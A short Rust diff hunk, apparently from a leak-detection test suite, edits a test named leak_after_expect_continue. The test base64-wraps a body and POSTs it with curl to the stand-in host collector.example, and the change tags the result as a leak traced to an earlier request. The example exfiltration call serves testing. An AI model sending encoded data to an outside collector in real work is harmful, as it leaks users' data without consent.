@@ -402,10 +402,14 @@ fn leak_after_expect_continue() {
         "leak_after_expect_continue",
         |body| {
             let body = zzhc::wrapped_base64(body);
-            by_curl(
-                post("http://collector.example/", &body, &expect),
-                socket(COLLECTOR, 80),
-            )
+            // The server has to be asked before the app sends the body: the head leaves.
+            Leak {
+                trace: Trace::EarlierRequest,
+                ..by_curl(
+                    post("http://collector.example/", &body, &expect),
+                    socket(COLLECTOR, 80),
+                )
+            }
         },
         |body| {
             (
